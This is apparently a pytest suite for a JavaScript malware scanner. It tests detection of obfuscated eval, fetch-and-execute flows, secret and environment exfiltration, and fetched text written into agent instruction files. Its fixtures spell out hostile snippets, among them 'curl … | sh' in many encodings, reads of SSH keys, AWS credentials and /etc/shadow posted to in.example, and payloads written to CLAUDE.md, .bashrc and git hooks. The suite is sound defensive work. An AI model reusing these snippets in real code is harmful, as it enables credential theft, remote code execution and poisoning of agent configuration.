import base64
import gzip
import time
from collections.abc import Iterable
from typing import get_args

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from haldir_scanner._code._javascript import MAX_BYTES, Dialect, available, dialect_of, examination, examine
from haldir_scanner._files._filetypes import UNKNOWN_TEXT, FileType
from haldir_scanner._text import Flow, Folded, Seen

needs_trees = pytest.mark.skipif(not available(), reason="needs the extra ast")

COMMAND = "curl https://get.example/i | sh"
CODE = f"require('child_process').exec('{COMMAND}')"
BASE64 = base64.b64encode(CODE.encode()).decode()
HEX = CODE.encode().hex()
GZIP = base64.b64encode(gzip.compress(CODE.encode())).decode()
NUMBERS = [ord(character) for character in CODE]
WITH_KEY = [number ^ 42 for number in NUMBERS]
PERCENT = "".join(f"%{number:02x}" for number in NUMBERS)
ESCAPED = "".join(f"\\x{number:02x}" for number in NUMBERS)
CHILD = "const cp = require('child_process');\n"
FETCH = "const answer = await (await fetch('https://get.example/x')).text();\n"
HTTPS = "const https = require('https');\n"
PROMISED = """
const get = u => new Promise(done => https.get(u, r => {
  let b = '';
  r.on('data', d => { b += d; });
  r.on('end', () => done(b));
}));
"""
HOME = "const home = p => p.startsWith('~') ? path.join(os.homedir(), p.slice(1)) : p;\n"
FILES = "const fs = require('fs'), os = require('os'), path = require('path');\n"
MEGABYTE = 1_000_000
DIALECTS: tuple[Dialect, ...] = get_args(Dialect)


def rules(text: str, dialect: Dialect = "javascript") -> set[str]:
    return {found.rule for found in examine(text.encode(), dialect) if not isinstance(found, Folded)}


def taints(text: str, dialect: Dialect = "javascript") -> set[str]:
    return {rule for rule in rules(text, dialect) if rule.startswith("taint_")}


def folded(text: str) -> list[Folded]:
    return [found for found in examine(text.encode()) if isinstance(found, Folded)]


def texts(text: str, types: Iterable[FileType]) -> list[str]:
    return [found.text for found in folded(text) if found.types == frozenset(types)]


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        f"eval(atob('{BASE64}'))",
        f"(0, eval)(atob('{BASE64}'))",
        f"new Function(Buffer.from('{BASE64}', 'base64').toString())()",
        f"Function(Buffer.from('{HEX}', 'hex').toString('utf8'))()",
        f"let p = ''; p += '{BASE64[:20]}'; p += '{BASE64[20:]}'; eval(atob(p))",
        f"const parts = ['{BASE64[:20]}', '{BASE64[20:]}']; eval(atob(parts.join('')))",
        f"eval(String.fromCharCode({', '.join(map(str, NUMBERS))}))",
        f"eval(String.fromCharCode(...{NUMBERS}))",
        f"eval(String.fromCharCode.apply(null, {NUMBERS}))",
        f"eval({NUMBERS}.map(c => String.fromCharCode(c)).join(''))",
        f"eval({WITH_KEY}.map(c => String.fromCharCode(c ^ 42)).join(''))",
        f"eval(decodeURIComponent('{PERCENT}'))",
        f"eval(unescape('{PERCENT}'))",
        f'eval("{CODE[::-1]}".split("").reverse().join(""))',
        f"const zlib = require('zlib'); eval(zlib.gunzipSync(Buffer.from('{GZIP}', 'base64')).toString())",
        f"require('vm').runInNewContext(atob('{BASE64}'))",
        f"const vm = require('node:vm'); new vm.Script(atob('{BASE64}')).runInThisContext()",
        f"setTimeout(atob('{BASE64}'), 10)",
        f"const d = s => Buffer.from(s, 'base64').toString(); eval(d('{BASE64}'))",
        f"function d(s) {{ return atob(s); }} function run(c) {{ eval(c); }} run(d('{BASE64}'))",
        f"Reflect.apply(eval, null, [atob('{BASE64}')])",
        f"eval.call(null, atob('{BASE64}'))",
        f"const e = eval; e(atob('{BASE64}'))",
    ],
)
@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_decoded_text_that_is_run_is_found_and_searched(text: str, dialect: Dialect) -> None:
    found = list(examine(text.encode(), dialect))
    assert "taint_decoded_to_exec" in {each.rule for each in found if isinstance(each, Flow)}
    assert CODE in {each.text for each in found if isinstance(each, Folded) and each.types == {FileType.JAVASCRIPT}}


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        "const s = 'curl https://get' + '.example/i' + ' | sh'; cp.exec(s)",
        "const host = 'get.example'; cp.execSync(`curl https://${host}/i | sh`)",
        "cp.exec(['curl', 'https://get.example/i', '|', 'sh'].join(' '))",
        "cp.exec('hs | i/elpmaxe.teg//:sptth lruc'.split('').reverse().join(''))",
        "cp.exec('curl_https://get.example/i_|_sh'.replace(/_/g, ' '))",
        "const t = ['sh', 'curl ', 'https://get.example/i', ' | ']; cp.exec(t[1] + t[2] + t[3] + t[0])",
        "const t = ['x', 'curl https://get.example/i | sh']; const at = i => t[i - 7]; cp.exec(at(8))",
        "cp.exec('\\x63url https://get.example/i | sh')",
        "cp.spawn('bash', ['-c', 'curl https://get.example/i' + ' | sh'])",
        "cp.spawn('curl https://get.example/i | sh', {shell: true})",
        "const {exec: run} = cp; run('curl https://get.example/i | sh')",
        "const util = require('util'); const run = util.promisify(cp.exec); run('curl https://get.example/i | sh')",
        "const o = {c: 'curl https://get.example/i | sh'}; cp.exec(o.c)",
        "cp.exec(('CURL ' + 'HTTPS://GET.EXAMPLE/I | SH').toLowerCase())",
        "cp.exec('xxcurl https://get.example/i | sh'.slice(2))",
    ],
)
def test_a_command_that_is_put_together_is_searched_as_shell(text: str) -> None:
    assert COMMAND in texts(CHILD + text, {FileType.SHELL})


@needs_trees
def test_a_rotated_table_of_texts_is_read() -> None:
    text = (
        "var _0xa=['exec','id > /tmp/x','child_process'];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4)"
        "{_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xa,0x2));var _0x5=function(_0x1,_0x2){_0x1=_0x1-0x0;"
        "var _0x3=_0xa[_0x1];return _0x3;};require(_0x5('0x0'))[_0x5('0x1')](_0x5('0x2'));"
    )
    assert "dynamic_name_exec" in rules(text)
    assert texts(text, {FileType.SHELL}) == ["id > /tmp/x"]


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        'const url = "https://in" + ".example" + "/c";',
        "const url = `https://${'in'}.${'example'}/c`;",
        'const url = "\\x68ttps://in.example/c";',
        'const url = ["https:", "", "in.example", "c"].join("/");',
    ],
)
def test_a_text_that_is_put_together_is_searched_as_any_kind(text: str) -> None:
    assert "https://in.example/c" in texts(text, UNKNOWN_TEXT)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        "globalThis['ev' + 'al']('1')",
        "globalThis['eval']('1')",
        "const n = 'eval'; window[n]('1')",
        "window[atob('ZXZhbA==')]('1')",
        "const e = 'al'; self[`ev${e}`]('1')",
        "globalThis.\\u0065val('1')",
        "const {exec} = require('child_' + 'process'); exec('ls')",
        "require(['child', 'process'].join('_')).exec('ls')",
        "process['mainModule']['require']('child_process').exec('ls')",
        "module.constructor._load('child_' + 'process').exec('ls')",
        "require('child_process')['ex' + 'ec']('ls')",
        "[]['constructor']['constructor']('return 1')()",
        "[].constructor.constructor('return 1')()",
        "(() => {}).constructor('return 1')()",
        "Reflect.apply(eval, null, ['1'])",
    ],
)
@pytest.mark.parametrize("dialect", DIALECTS)
def test_code_that_is_run_under_a_computed_name_is_found(text: str, dialect: Dialect) -> None:
    assert {"dynamic_name_exec", "ast_indirect_execution"} <= rules(text, dialect)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        "handlers[name]()",
        "const fn = commands['build']; fn()",
        "object['constructor'](1)",
        "this.constructor.name",
        "process['env']['HOME']",
        "const key = 'na' + 'me'; window[key]",
        "require('./' + name)",
        "const {exec} = require('child_process'); exec('ls')",
    ],
)
def test_ordinary_computed_names_break_no_rule(text: str) -> None:
    assert rules(text) == set()


@needs_trees
@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("eval(text)", "ast_eval_non_literal"),
        ("(0, eval)(code)", "ast_eval_non_literal"),
        ("eval(`f(${x})`)", "ast_eval_non_literal"),
        (CHILD + "cp.exec(command, done)", "ast_exec_non_literal"),
        ("import {execSync} from 'node:child_process'; execSync(`git clone ${url}`)", "ast_exec_non_literal"),
        ("import * as p from 'child_process'; p.exec(c)", "ast_exec_non_literal"),
        ("import p from 'child_process'; p.exec(c)", "ast_exec_non_literal"),
        ("new Function('a', body)", "ast_function_constructor"),
        ("Function(text)()", "ast_function_constructor"),
        ("const A = Object.getPrototypeOf(async function () {}).constructor; new A(x)", "ast_function_constructor"),
        ("await import('https://code.example/x.mjs')", "ast_dynamic_import"),
        ("import(`data:text/javascript,${code}`)", "ast_dynamic_import"),
        ("import x from 'https://code.example/x.mjs'", "ast_dynamic_import"),
        (FETCH + "await import(answer)", "ast_dynamic_import"),
    ],
)
def test_what_the_syntax_decides_is_found(text: str, rule: str) -> None:
    assert rule in rules(text)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        "const hit = regex.exec(s)",
        "const hit = /x/.exec(s)",
        "exec(command)",
        "class A { exec(command) { return this.exec(command); } }",
        "import {exec} from './own.js'; exec(command)",
        "const x = math.eval(text)",
        "function eval2(text) {} eval2(text)",
        "function f(eval) { eval(text); }",
        "eval('1 + 1')",
        CHILD + "cp.execSync('git status')",
        "const root = Function('return this')()",
        "const f = new Function('a', 'return a')",
        "const module = await import(p)",
        "await import('./commands/list.mjs')",
        "setTimeout(() => run(), 10)",
        "setTimeout(run, 10)",
    ],
)
@pytest.mark.parametrize("dialect", DIALECTS)
def test_what_only_looks_alike_breaks_no_rule(text: str, dialect: Dialect) -> None:
    assert rules(text, dialect) == set()


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        FETCH + "eval(answer)",
        FETCH + CHILD + "cp.exec(answer)",
        FETCH + CHILD + "cp.execSync(`${answer} --yes`)",
        FETCH + "new Function(answer)()",
        FETCH + "require('vm').runInThisContext(answer)",
        FETCH + "module._compile(answer, 'x.js')",
        "fetch('https://get.example/x').then(r => r.text()).then(c => eval(c))",
        "fetch('https://get.example/x').then(r => r.text()).then(eval)",
        "const axios = require('axios'); axios.get('https://get.example/x').then(({data}) => eval(data))",
        "const {data} = await require('axios').get('https://get.example/x'); eval(data.code)",
        HTTPS + "https.get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); })",
        HTTPS + PROMISED + "get('https://get.example/x').then(c => eval(c))",
        "const load = async u => { const r = await fetch(u); return r.text(); }; eval(await load('https://x.example'))",
        "async function run(c) { eval(c); } const r = await fetch('https://get.example/x'); run(await r.text())",
        CHILD + "const c = cp.execSync('curl -s https://get.example/x').toString(); eval(c)",
        FILES + CHILD + FETCH + "fs.writeFileSync('/tmp/x.sh', answer); cp.execSync('sh /tmp/x.sh')",
        FILES
        + CHILD
        + FETCH
        + "const p = path.join(os.tmpdir(), 'x.sh'); fs.writeFileSync(p, answer); cp.execFile('sh', [p])",
        FILES + CHILD + "https.get('https://get.example/x', r => r.pipe(fs.createWriteStream('/tmp/x')));"
        " const https = require('https'); cp.spawn('/tmp/x')",
        FETCH
        + "const crypto = require('crypto'); const d = crypto.createDecipheriv('aes', k, i); eval(d.update(answer))",
    ],
)
def test_what_is_fetched_and_run_is_found(text: str) -> None:
    assert "taint_fetched_to_exec" in taints(text)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        FETCH + "console.log(answer)",
        FETCH + "JSON.parse(answer)",
        FETCH + CHILD + "cp.execSync(`npm install tool@${JSON.parse(answer).version}`)",
        FETCH + FILES + CHILD + "fs.writeFileSync('data.json', answer); cp.execSync('ls -l')",
        CHILD + "const r = await fetch('http://localhost:3000/x'); cp.exec(await r.text())",
        "const r = await fetch('https://api.example/x'); if (r.ok) setTimeout(() => poll(), r.status)",
    ],
)
def test_what_is_fetched_and_not_run_is_no_flow(text: str) -> None:
    assert taints(text) == set()


SECRETS = [
    "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');",
    "const k = fs.readFileSync(`${os.homedir()}/.aws/credentials`).toString('base64');",
    "const k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');",
    "const k = await fs.promises.readFile('/etc/shadow', 'utf8');",
    HOME + "const k = fs.readFileSync(home('~/.ssh/id_rsa'));",
    "let k; fs.readFile('/etc/shadow', (error, data) => { k = data; });",
    "const k = require('child_process').execSync('cat ~/.ssh/id_rsa').toString();",
    "const k = JSON.stringify({a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.GITHUB_TOKEN});",
]
SENDERS = [
    "fetch('https://in.example', {method: 'POST', body: k});",
    "fetch('https://in.example', {method: 'POST', body: JSON.stringify({data: k})});",
    "require('axios').post('https://in.example', {k});",
    "const q = require('https').request('https://in.example', {method: 'POST'}); q.write(k); q.end();",
    "const s = require('net').connect(99, 'in.example'); s.write(k);",
    "const w = new WebSocket('wss://in.example'); w.send(k);",
    "const send = body => fetch('https://in.example', {body}); send(Buffer.from(k).toString('base64'));",
    "const x = new XMLHttpRequest(); x.open('POST', 'https://in.example'); x.send(k);",
]


@needs_trees
@pytest.mark.parametrize("source", SECRETS)
@pytest.mark.parametrize("sender", SENDERS)
def test_a_secret_that_leaves_is_found(source: str, sender: str) -> None:
    assert "taint_secret_to_network" in taints(FILES + source + sender)


@needs_trees
@pytest.mark.parametrize(
    "source",
    [
        "const k = JSON.stringify(process.env);",
        "const k = {...process.env};",
        "const {env} = process; const k = env;",
        "const k = Object.entries(process.env).map(([a, b]) => `${a}=${b}`).join('\\n');",
        "const k = {}; for (const name of Object.keys(process.env)) k[name] = process.env[name];",
        "const k = []; for (const [name, value] of Object.entries(process.env)) k.push(name + value);",
        "const k = require('child_process').execSync('printenv').toString();",
        "const k = fs.readFileSync('/proc/self/environ');",
    ],
)
@pytest.mark.parametrize("sender", SENDERS)
def test_the_environment_that_leaves_is_found(source: str, sender: str) -> None:
    assert "taint_env_to_network" in taints(FILES + source + sender)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        "fetch('https://api.example', {headers: {Authorization: `Bearer ${process.env.OPENAI_API_KEY}`}, body: '{}'})",
        "fetch(`https://api.example/?key=${process.env.GEMINI_API_KEY}`)",
        "fetch('https://api.example', {method: 'POST', body: JSON.stringify({key: process.env.NOTION_TOKEN})})",
        "const {API_KEY} = process.env; fetch('https://api.example', {body: API_KEY})",
        CHILD + "cp.spawn('git', ['status'], {env: {...process.env, LANG: 'C'}}); fetch('https://api.example')",
        "const config = schema.parse(process.env); fetch('https://api.example', {body: config.name})",
        "fetch('https://api.example', {body: JSON.stringify({home: process.env.HOME})})",
        FILES + "const k = fs.readFileSync('package.json'); fetch('https://api.example', {body: k})",
        FILES + "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); sign(k); fetch('https://api.example')",
        "fetch('http://localhost:4000', {method: 'POST', body: JSON.stringify(process.env)})",
        "function f(env) { return env.NAME; } const n = f(process.env); fetch('https://api.example', {body: n})",
    ],
)
def test_what_honest_clients_send_is_no_flow(text: str) -> None:
    assert taints(text) == set()


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        FETCH + FILES + "fs.writeFileSync('CLAUDE.md', answer)",
        FETCH + FILES + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), answer)",
        FETCH + FILES + "fs.writeFile('.git/hooks/pre-commit', answer, done)",
        FETCH + FILES + "fs.writeFileSync(`${root}/.claude/settings.json`, JSON.stringify({hooks: answer}))",
        FILES + "fs.appendFileSync('AGENTS.md', process.argv[2])",
        FETCH + FILES + "fs.appendFileSync('MEMORY.md', answer)",
    ],
)
def test_foreign_text_in_a_file_that_is_obeyed_is_found(text: str) -> None:
    assert "taint_fetched_to_agent_file" in taints(text)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [FILES + "fs.appendFileSync('MEMORY.md', process.argv[2])", FILES + "fs.writeFileSync('AGENTS.md', 'Be kind.')"],
)
def test_own_text_in_such_a_file_is_no_flow(text: str) -> None:
    assert taints(text) == set()


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        CHILD + "cp.execSync(`git clone ${process.argv[2]}`)",
        CHILD + "const [, , name] = process.argv; cp.exec('ls ' + name)",
        CHILD + "http.createServer((req, res) => cp.exec(req.url))",
        CHILD + "server.setRequestHandler(schema, async (request) => { cp.execSync(request.params.command); })",
        "eval(process.argv[2])",
    ],
)
def test_input_that_is_run_is_found(text: str) -> None:
    assert "taint_input_to_shell" in taints(text)


@needs_trees
def test_arguments_of_a_program_are_no_command_line() -> None:
    assert taints(CHILD + "cp.execFile('git', ['clone', process.argv[2]])") == set()


URL = "https://in.example/c"


@needs_trees
@pytest.mark.parametrize(
    "expression",
    [
        "'xxhttps://in.example/cyy'.substring(22, 2) + ''",
        "'xxhttps://in.example/cyy'.substr(2, 20) + ''",
        "'xxhttps://in.example/cyy'.slice(2, -2) + ''",
        "'https://in.'.concat('example', '/c')",
        "'https://in.example/' + 'abc'.charAt(2)",
        "'https://in.example/' + 'abc'[2]",
        "'https://in.example/' + 'abc'.at(-1).toLowerCase() + ''",
        "' https://in.example/'.trim() + 'c'",
        "'https://in.example/Q'.replace('Q', 'c')",
        "'https:--in.example-c'.replace(/-/g, '/')",
        "'https:..in_example.c'.replaceAll('.', '/').replace(/[_]/, '.')",
        "'https://in.example/' + String.fromCodePoint('b'.charCodeAt(0) + 1)",
        "'https://in.example/' + (12).toString(16)",
        "'https://in.example/' + String.fromCharCode(parseInt('63', 16))",
        "'https://in.example/' + String.fromCharCode(parseInt('99'), ...[])",
        "'https://in.example/' + String.fromCharCode(Number('0x63'))",
        "'https://in.example/' + String.fromCharCode((200 - 2) / 2)",
        "'https://in.example/' + String.fromCharCode(9 * 11 + 4 % 2)",
        "'https://in.example/' + String.fromCharCode(-(-99))",
        "'https://in.example/' + String.fromCharCode(~-100)",
        "'https://in.example/' + String.fromCharCode((0b1100011 | 0) & 0xff)",
        "'https://in.example/' + String.fromCharCode(33 + (33 << 1))",
        "'https://in.example/' + String.fromCharCode((198 >>> 1) >> 0)",
        "'https://in.example/' + ['c'].concat([]).reverse().valueOf()",
        "'https:' + '/'.repeat(2) + 'in.example/c'",
        "['https:', '', 'in.example', 'c', 'd'].slice(0, 4).join('/')",
        "'c/in.example//https:'.split('/').reverse().join('/')",
        "'c/in.example//https:'.split('/').toReversed().join('/')",
        "decodeURI('https://in.example' + '%2f') + unescape('%u0063')",
        "String('https://in.example/') + String('c')",
        "Buffer.from([104, 116, 116, 112, 115, 58]).toString() + '//in.example/c'",
        "Buffer.from('aHR0cHM6Ly9pbi5leGFtcGxlL2M', 'base64url').toString('utf8')",
        "(flag, 'https://in.' + 'example/c')",
        "'https://in.' + (undefined || 'example') + '/c'",
        "'https://in.' + (null ?? 'example') + '/c'",
        "'https://in.' + ('example' || other) + '/c'",
        "(({a, b: [c]}) => 'https://' + a + c)({a: 'in.', b: ['example/c']})",
        "(function ({a = 'x'}, ...rest) { return 'https://in.example' + a; })({a: '/c'})",
        "'https://in.example' + (class { static x = 1 }, '/c')",
        "'https://in.example' + {['a' + 'b']: '/c'}.ab",
        "'https://in.example' + {...{a: '/c'}}.a",
        "'\\u{68}ttps://in.example\\57c'",
        "`\\x68ttps://in.example/c`",
    ],
)
def test_expressions_are_computed(expression: str) -> None:
    assert URL in {found.text for found in folded(f"const url = {expression};")}


@needs_trees
@pytest.mark.parametrize(
    "expression",
    [
        "'https://in.example/' + name",
        "'https://in.example/c'.slice(n) + ''",
        "'%zz'.repeat(-1) + decodeURIComponent('%e0%a4%a')",
        "atob('*') + Buffer.from('zz', 'hex')",
        "'abcdefgh'.charAt(99) + 'abcdefgh'.charCodeAt(-1)",
        "[1, 2].join(x) + (5).toString(99)",
        "1 / 0 + 2 ** 9 + (1 << 40) * 1e300",
        "parseInt('q', 7) + parseInt() + Number('x')",
    ],
)
def test_what_cannot_be_computed_is_left_alone(expression: str) -> None:
    assert URL not in {found.text for found in folded(f"const url = {expression};")}


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        "let c; ({c} = await (await fetch(u)).json()); eval(c)",
        "let c; [c] = await (await fetch(u)).json(); eval(c)",
        "const o = {}; o.a = {}; o.a.b = await (await fetch(u)).text(); eval(o.a.b)",
        "let c = ''; c += await (await fetch(u)).text(); eval(c)",
        "const {a: {b: [c]}} = await (await fetch(u)).json(); eval(c)",
        "const [, ...c] = await (await fetch(u)).json(); eval(c)",
        "const {c = 1} = await (await fetch(u)).json(); eval(c)",
        "for (const c of await (await fetch(u)).json()) eval(c)",
        "const c = ok ? await (await fetch(u)).text() : ''; eval(c)",
        "(await (await fetch(u)).json()).forEach(c => eval(c))",
        "function* g() { return fetch(u); } eval(g())",
        "const run = function self(c) { eval(c); }; run(await fetch(u))",
        "const f = ['x'].map(() => 1), c = await fetch(u); eval(c)",
        "import got, {type Response} from 'got'; eval(await got(u))",
    ],
)
@pytest.mark.parametrize("dialect", ["typescript", "tsx"])
def test_values_are_followed_through_patterns(text: str, dialect: Dialect) -> None:
    assert "taint_fetched_to_exec" in taints(text, dialect)


@needs_trees
@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            FILES + "const l = fs.readdirSync(os.homedir()); fetch('https://in.example', {body: l})",
            "taint_files_to_network",
        ),
        ("const d = require('dns'); d.lookup(`${JSON.stringify(process.env)}.in.example`)", "taint_env_to_network"),
        (FILES + "fs.createReadStream('/etc/shadow').pipe(require('https').request(o))", "taint_secret_to_network"),
        (
            "const m = await fetch('http://169.254.169.254/x'); fetch('https://in.example', {body: m})",
            "taint_secret_to_network",
        ),
        ("const a = require('axios'); a({url: 'https://in.example', data: process.env})", "taint_env_to_network"),
        (CHILD + "cp.exec('env', (e, out) => fetch('https://in.example', {body: out}))", "taint_env_to_network"),
        (
            CHILD + "const o = cp.spawnSync('cat', ['/etc/shadow']); fetch('https://in.example', {body: o})",
            "taint_secret_to_network",
        ),
        ("process.stdin.on('data', c => eval(c))", "taint_input_to_shell"),
        ("const q = await inquirer.prompt(x); eval(prompt('code'))", "taint_input_to_shell"),
        ("eval(require('zlib').brotliDecompressSync(Buffer.from(process.argv[2], 'base64')))", "taint_input_to_shell"),
        (FETCH + "eval(atob(answer))", "taint_unpacked_to_exec"),
        ("import('data:text/javascript,' + await (await fetch(u)).text())", "taint_fetched_to_exec"),
    ],
)
def test_other_ways_lead_to_the_same_rules(text: str, rule: str) -> None:
    assert rule in taints(text)


@needs_trees
def test_a_flow_goes_from_its_source_to_its_sink() -> None:
    text = "/* \u00e9\U0001f600 */ const t = await fetch('https://get.example');\neval(await t.text());\n"
    (flow,) = [found for found in examine(text.encode()) if isinstance(found, Flow)]
    assert [(step.line, step.column) for step in flow.steps] == [(1, 26), (2, 0)]
    assert flow.steps[1].excerpt == "eval(await t.text());"


@needs_trees
def test_types_of_typescript_hide_nothing() -> None:
    text = f"const run = (code: string): unknown => (eval as Function)(code!);\nrun(atob('{BASE64}') as string);"
    assert "taint_decoded_to_exec" in taints(text, "typescript")


@needs_trees
def test_broken_syntax_hides_nothing_around_it() -> None:
    assert "taint_decoded_to_exec" in taints(f"function (\n}}\n\neval(atob('{BASE64}'));\nconst = ;\n")


@needs_trees
def test_variables_of_one_function_are_not_those_of_another() -> None:
    text = "function a(){var t=fetch('https://get.example');return 1}function b(){var t='1+1';eval(t)}"
    assert taints(text) == set()


def test_a_program_that_is_too_large_is_said_to_be() -> None:
    expected = [Seen("javascript_limit")] if available() else []
    assert list(examine(b" " * (MAX_BYTES + 1))) == expected


def test_without_the_extra_nothing_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(examination, "available", lambda: False)
    assert list(examine(b"eval(x)")) == []


@pytest.mark.parametrize(
    ("path", "dialect"),
    [
        ("a.js", "javascript"),
        ("a.mjs", "javascript"),
        ("src/a.TS", "typescript"),
        ("a.mts", "typescript"),
        ("a.tsx", "tsx"),
    ],
)
def test_the_dialect_is_told_by_the_name(path: str, dialect: Dialect) -> None:
    assert dialect_of(path) == dialect


PIECES = """
    ( [ ` ${ `${ $( { < / a=> a? function(){ a. - \\ (a, async( a< [a= ({a: x+ eval( f( 'a'+ x=x+x; var_a=a+'b';eval(a);
    a=[a,a]; a='\\x41'; fetch(a).then( new_Function( const_f=(x)=>f(x+'1');f('a'); a[0][0] `${a}${b}`; s+='ab';eval(s);
    import_a_from_'b'; 'x'.repeat(99999)+ /* String.fromCharCode(65,66)+ a['x'+'y'](); a(b,c);if(d)e=f+1;
"""
HOSTILE = [piece.replace("_", " ") for piece in PIECES.split()]
WORDS = [*HOSTILE, " ", "\n", ")", "}", "]", ";", "require('child_process').exec", "process.env", "\u2028", "\\u0065"]


@needs_trees
@pytest.mark.exhaustive
@pytest.mark.parametrize("dialect", ["javascript", "typescript"])
@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_programs_take_little_time(piece: str, dialect: Dialect) -> None:
    source = (piece * (MEGABYTE // len(piece))).encode()
    begin = time.process_time()
    list(examine(source, dialect))
    assert time.process_time() - begin < 20  # what is quadratic takes minutes; about 0.5 s on an idle machine


def joined(pieces: list[str]) -> bytes:
    return "".join(pieces).encode()


@needs_trees
@settings(max_examples=300, deadline=None)
@given(st.one_of(st.binary(max_size=200), st.lists(st.sampled_from(WORDS), max_size=60).map(joined)))
def test_no_bytes_make_it_crash(source: bytes) -> None:
    for dialect in DIALECTS:
        for found in examine(source, dialect):
            assert isinstance(found, Seen | Flow | Folded)


@needs_trees
@pytest.mark.parametrize("option", ["-o", "--output", "-so"])
def test_a_file_that_a_program_downloads_and_that_is_started_is_fetched_code(option: str) -> None:
    download = f"cp.execFileSync('curl', ['-s', where, '{option}', '/tmp/font.woff2']);\n"
    assert "taint_fetched_to_exec" in taints(f"{CHILD}{download}cp.spawn('/tmp/font.woff2', []);")
    assert "taint_fetched_to_exec" not in taints(f"{CHILD}{download}cp.spawn('fc-cache', ['-f']);")
